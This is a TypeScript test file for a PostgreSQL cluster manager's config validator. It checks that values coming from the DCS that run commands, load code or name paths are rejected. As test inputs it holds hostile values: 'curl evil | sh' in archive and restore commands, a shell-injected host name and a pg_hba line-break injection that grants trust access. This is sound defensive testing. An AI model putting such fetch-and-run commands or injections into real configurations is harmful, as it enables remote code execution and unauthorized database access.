/**
 * Config safety rules, table-driven: each bad input -> the exact clear error. The same checker
 * serves bootstrap.dcs (start-up), PATCH/PUT /config and a /config read from etcd.
 */
import { describe, expect, it } from 'vitest';
import { parseConfig, validateDynamicConfig } from '../src/config.ts';
import { privilegedKind } from '../src/config/parameters.ts';
import { minimal } from './minimal-config.ts';

const NOT_FROM_DCS = (kind: string, name: string) =>
  `${kind}; Keel takes it only from the local YAML (postgresql.parameters), unless postgresql.allow_from_dcs lists "${name}"`;

describe('a dynamic configuration (PATCH/PUT /config body): each bad input gets one clear error', () => {
  const cases: Array<[string, unknown, string[]]> = [
    ['a line break in a value (the issue repro)', { postgresql: { parameters: { application_name: 'a\nb' } } }, ['postgresql.parameters.application_name: must not contain line breaks or NUL characters']],
    ['a carriage return', { postgresql: { parameters: { application_name: 'a\rb' } } }, ['postgresql.parameters.application_name: must not contain line breaks or NUL characters']],
    ['a NUL', { postgresql: { parameters: { work_mem: '4MB\u0000' } } }, ['postgresql.parameters.work_mem: must not contain line breaks or NUL characters']],
    ['a name outside the GUC grammar', { postgresql: { parameters: { "x = 'y'\nfsync": 'off' } } }, ['postgresql.parameters.x = \'y\'\nfsync: not a valid configuration parameter name: "x = \'y\'\\nfsync"']],
    ['a name with two dots', { postgresql: { parameters: { 'a.b.c': 1 } } }, ['postgresql.parameters.a.b.c: not a valid configuration parameter name: "a.b.c"']],
    ['a mapping as a value', { postgresql: { parameters: { work_mem: { a: 1 } } } }, ['postgresql.parameters.work_mem: expected a string, number or boolean, got a mapping']],
    ['a list as a value', { postgresql: { parameters: { work_mem: [1] } } }, ['postgresql.parameters.work_mem: expected a string, number or boolean, got a list']],
    ['archive_command (runs a command)', { postgresql: { parameters: { archive_command: 'curl evil | sh' } } }, [`postgresql.parameters.archive_command: ${NOT_FROM_DCS('runs a command', 'archive_command')}`]],
    ['restore_command', { postgresql: { parameters: { restore_command: 'x' } } }, [`postgresql.parameters.restore_command: ${NOT_FROM_DCS('runs a command', 'restore_command')}`]],
    ['ssl_passphrase_command', { postgresql: { parameters: { ssl_passphrase_command: 'x' } } }, [`postgresql.parameters.ssl_passphrase_command: ${NOT_FROM_DCS('runs a command', 'ssl_passphrase_command')}`]],
    ['shared_preload_libraries (loads code)', { postgresql: { parameters: { shared_preload_libraries: 'evil' } } }, [`postgresql.parameters.shared_preload_libraries: ${NOT_FROM_DCS('loads code', 'shared_preload_libraries')}`]],
    ['dynamic_library_path', { postgresql: { parameters: { dynamic_library_path: '/tmp' } } }, [`postgresql.parameters.dynamic_library_path: ${NOT_FROM_DCS('loads code', 'dynamic_library_path')}`]],
    ['log_directory (a path)', { postgresql: { parameters: { log_directory: '/etc' } } }, [`postgresql.parameters.log_directory: ${NOT_FROM_DCS('names a file or directory', 'log_directory')}`]],
    ['data_directory', { postgresql: { parameters: { data_directory: '/x' } } }, [`postgresql.parameters.data_directory: ${NOT_FROM_DCS('names a file or directory', 'data_directory')}`]],
    ['an extension command', { postgresql: { parameters: { 'pgbackrest.archive_command': 'x' } } }, [`postgresql.parameters.pgbackrest.archive_command: ${NOT_FROM_DCS('runs a command', 'pgbackrest.archive_command')}`]],
    ['recovery_conf.restore_command', { postgresql: { recovery_conf: { restore_command: 'x' } } }, [`postgresql.recovery_conf.restore_command: ${NOT_FROM_DCS('runs a command', 'restore_command')}`]],
    ['postgresql.callbacks', { postgresql: { callbacks: { on_start: '/bin/evil' } } }, ['postgresql.callbacks: runs commands or names files; Keel takes it only from the local YAML (postgresql.callbacks), never from the DCS']],
    ['postgresql.bin_dir', { postgresql: { bin_dir: '/tmp/evil' } }, ['postgresql.bin_dir: runs commands or names files; Keel takes it only from the local YAML (postgresql.bin_dir), never from the DCS']],
    ['postgresql.pre_promote', { postgresql: { pre_promote: '/bin/evil' } }, ['postgresql.pre_promote: runs commands or names files; Keel takes it only from the local YAML (postgresql.pre_promote), never from the DCS']],
    ['a pg_hba line break', { postgresql: { pg_hba: ['host all all 0.0.0.0/0 trust\nlocal all all trust'] } }, ['postgresql.pg_hba[0]: must not contain line breaks or NUL characters']],
    ['ttl as text that is not a number', { ttl: '30s' }, ['ttl: expected an integer, got "30s"']],
    ['a negative loop_wait', { loop_wait: -1 }, ['loop_wait: must be >= 0, got -1']],
    ['a retry_timeout beyond a timer', { retry_timeout: 3_000_000 }, ['retry_timeout: must be <= 2147483 (seconds; no timer may exceed 2^31-1 ms), got 3000000']],
    ['a primary_start_timeout beyond a timer', { primary_start_timeout: 1e12 }, ['primary_start_timeout: must be <= 2147483 (seconds; no timer may exceed 2^31-1 ms), got 1000000000000']],
    ['a fractional ttl', { ttl: 1.5 }, ['ttl: expected an integer, got 1.5']],
    ['a boolean ttl', { ttl: true }, ['ttl: expected an integer, got true']],
    ['maximum_lag_on_failover beyond an exact integer', { maximum_lag_on_failover: 2 ** 60 }, ['maximum_lag_on_failover: must be <= 9007199254740991, got 1152921504606847000']],
    ['synchronous_node_count 0', { synchronous_node_count: 0 }, ['synchronous_node_count: must be >= 1, got 0']],
    ['pause as a word', { pause: 'maybe' }, ['pause: expected true or false, got "maybe"']],
    ['an unknown key', { tll: 30 }, ['tll: unknown key (did you mean "ttl"?)']],
    ['postgresql as a list', { postgresql: [] }, ['postgresql: expected a mapping, got a list']],
    ['parameters as a string', { postgresql: { parameters: 'work_mem=1' } }, ['postgresql.parameters: expected a mapping, got "work_mem=1"']],
    ['synchronous_mode as a word', { synchronous_mode: 'sometimes' }, ['synchronous_mode: expected on, off or quorum, got "sometimes"']],
    ['maximum_lag_on_syncnode as a word', { maximum_lag_on_syncnode: 'far' }, ['maximum_lag_on_syncnode: expected an integer, got "far"']],
    ['standby_cluster with a bad port', { standby_cluster: { host: 'site-a', port: 70000 } }, ['standby_cluster.port: expected a port number from 1 to 65535, got 70000']],
    ['standby_cluster with a bad host', { standby_cluster: { host: 'a b;rm', port: 5432 } }, ['standby_cluster.host: expected one host name or IP address, got "a b;rm"']],
    ['standby_cluster with an unknown key', { standby_cluster: { host: 'site-a', prot: 5432 } }, ['standby_cluster.prot: unknown key (did you mean "port"?)']],
    ['standby_cluster without a source', { standby_cluster: { port: 5432, primary_slot_name: 'site_b' } }, ['standby_cluster: needs a host (the other site to stream from) or a restore_command (to restore from its archive)']],
    ['standby_cluster with a bad slot name', { standby_cluster: { host: 'site-a', primary_slot_name: 'Site-B' } }, ['standby_cluster.primary_slot_name: expected a replication slot name (lower-case letters, digits and underscores, at most 63), got "Site-B"']],
    ['standby_cluster as a string', { standby_cluster: 'site-a:5432' }, ['standby_cluster: expected a mapping, got "site-a:5432"']],
    ['standby_cluster.restore_command not allowed from the DCS', { standby_cluster: { restore_command: 'curl evil | sh' } }, ['standby_cluster.restore_command: runs a command; Keel takes it from the DCS only when postgresql.allow_from_dcs lists "restore_command" (or set it in the local postgresql.recovery_conf)']],
    ['create_replica_methods in /config', { postgresql: { create_replica_methods: ['wal_g'] } }, ['postgresql.create_replica_methods: chooses commands to run; Keel takes it only from the local YAML (postgresql.create_replica_methods and its method sections), never from the DCS']],
    ['a replica method section in /config', { postgresql: { pgbackrest: { command: 'curl evil | sh' } } }, ['postgresql.pgbackrest: unknown key']],
    ['a body that is not an object', [1, 2], ['(root): expected a mapping, got a list']],
  ];
  it.each(cases)('%s', (_name, body, errors) => {
    expect(validateDynamicConfig(body).errors).toEqual(errors);
  });

  it('accepts standby_cluster as Patroni does, normalised', () => {
    const body = { standby_cluster: { host: '10.0.0.5', port: '5433', primary_slot_name: 'site_b', recovery_min_apply_delay: '5min', create_replica_methods: 'pgbackrest, basebackup' } };
    const r = validateDynamicConfig(body);
    expect(r.errors).toEqual([]);
    expect(r.config.standby_cluster).toEqual({ host: '10.0.0.5', port: 5433, primary_slot_name: 'site_b', recovery_min_apply_delay: '5min', create_replica_methods: ['pgbackrest', 'basebackup'] });
    const archive = validateDynamicConfig({ standby_cluster: { restore_command: 'pgbackrest --stanza=main archive-get %f "%p"' } }, '', { allowFromDcs: ['restore_command'] });
    expect(archive.errors).toEqual([]);
    // removing it (keelctl promote-cluster, a merge patch with null) and an empty section are not a standby cluster
    expect(validateDynamicConfig({ standby_cluster: null }).errors).toEqual([]);
    expect(validateDynamicConfig({ standby_cluster: {} }).config.standby_cluster).toEqual({});
  });

  it('accepts privileged parameters that the local YAML allows from the DCS', () => {
    const body = { postgresql: { parameters: { archive_command: '/usr/bin/pgbackrest archive-push %p', log_directory: '/var/log/pg' } } };
    const r = validateDynamicConfig(body, '', { allowFromDcs: ['archive_command', 'log_directory'] });
    expect(r.errors).toEqual([]);
    expect(r.config).toEqual(body);
  });

  it('stores numbers as numbers and booleans as booleans', () => {
    const r = validateDynamicConfig({ ttl: ' 30 ', loop_wait: '10', synchronous_mode_strict: 'off', pause: 'true' });
    expect(r.errors).toEqual([]);
    expect(r.config).toEqual({ ttl: 30, loop_wait: 10, synchronous_mode_strict: false, pause: true });
  });
});

describe('privileged parameters', () => {
  it.each([
    ['archive_command', 'runs a command'],
    ['ARCHIVE_COMMAND', 'runs a command'],
    ['archive_library', 'loads code'],
    ['session_preload_libraries', 'loads code'],
    ['local_preload_libraries', 'loads code'],
    ['jit_provider', 'loads code'],
    ['config_file', 'names a file or directory'],
    ['hba_file', 'names a file or directory'],
    ['ident_file', 'names a file or directory'],
    ['external_pid_file', 'names a file or directory'],
    ['ssl_key_file', 'names a file or directory'],
    ['ssl_crl_dir', 'names a file or directory'],
    ['krb_server_keyfile', 'names a file or directory'],
    ['myext.socket_directory', 'names a file or directory'],
    ['search_path', null],
    ['work_mem', null],
    ['ssl_passphrase_command_supports_reload', null],
    ['log_filename', null],
  ])('%s -> %s', (name, kind) => expect(privilegedKind(name)).toBe(kind));
  it('treats a log_filename with a "/" as a path', () => expect(privilegedKind('log_filename', '../../x')).toBe('names a file or directory'));
});


describe('the local YAML', () => {
  it('takes privileged parameters in postgresql.parameters (local) without asking', () => {
    const { config } = parseConfig(minimal('', 'parameters: {archive_command: "cp %p /arch/%f", shared_preload_libraries: pg_stat_statements}\n'), 't.yml', {});
    expect(config.postgresql.parameters).toEqual({ archive_command: 'cp %p /arch/%f', shared_preload_libraries: 'pg_stat_statements' });
    expect(config.postgresql.allow_from_dcs).toEqual([]);
  });

  it('refuses a privileged parameter in bootstrap.dcs unless postgresql.allow_from_dcs lists it', () => {
    const dcs = 'bootstrap:\n  dcs:\n    postgresql:\n      parameters: {archive_command: "cp %p /arch/%f"}\n';
    expect(() => parseConfig(minimal(dcs), 't.yml', {})).toThrow(`bootstrap.dcs.postgresql.parameters.archive_command: ${NOT_FROM_DCS('runs a command', 'archive_command')}`);
    const { config } = parseConfig(minimal(dcs, 'allow_from_dcs: [archive_command]\n'), 't.yml', {});
    expect(config.bootstrap.dcs.postgresql?.parameters).toEqual({ archive_command: 'cp %p /arch/%f' });
    expect(config.postgresql.allow_from_dcs).toEqual(['archive_command']);
  });

  it('refuses an allow_from_dcs entry that is not a privileged parameter (a typo would allow nothing)', () => {
    expect(() => parseConfig(minimal('', 'allow_from_dcs: [archive_comand, work_mem]\n'), 't.yml', {})).toThrow(
      'postgresql.allow_from_dcs[1]: not a parameter that runs a command, loads code or names a file; the DCS may set it anyway, got "work_mem"',
    );
  });

  it('refuses local parameters PostgreSQL could not read', () => {
    expect(() => parseConfig(minimal('', 'parameters: {application_name: "a\\nb"}\n'), 't.yml', {})).toThrow(
      'postgresql.parameters.application_name: must not contain line breaks or NUL characters',
    );
  });

  it.each([
    ['"true"', true],
    ['"false"', false],
    ['"on"', true],
    ['"no"', false],
    ['"1"', true],
    ['0', false],
  ])('runs with the tag nofailover: %s, read as Patroni parse_bool does (%s)', (text, value) => {
    const { config } = parseConfig(minimal(`tags:\n  nofailover: ${text}\n  nosync: "false"\n  noloadbalance: "True"\n`), 't.yml', {});
    expect(config.tags).toEqual({ nofailover: value, nosync: false, noloadbalance: true });
  });
});

describe('the name that stands for the other site of a standby cluster', () => {
  it('is refused as a member name', () => {
    const yaml = `scope: demo\nname: "(standby_cluster)"\nrestapi:\n  listen: 10.0.0.1:8008\netcd3:\n  hosts: 10.0.0.9:2379\npostgresql:\n  listen: 10.0.0.1:5432\n  data_dir: /var/lib/postgresql/15/main\n  authentication:\n    superuser: {username: postgres, password: s3cr3t-super}\n    replication: {username: replicator, password: s3cr3t-repl}\n`;
    expect(() => parseConfig(yaml, 'test.yml', {})).toThrow(/name: this name is reserved by Keel \(it stands for the other site of a standby cluster\)/);
  });
});
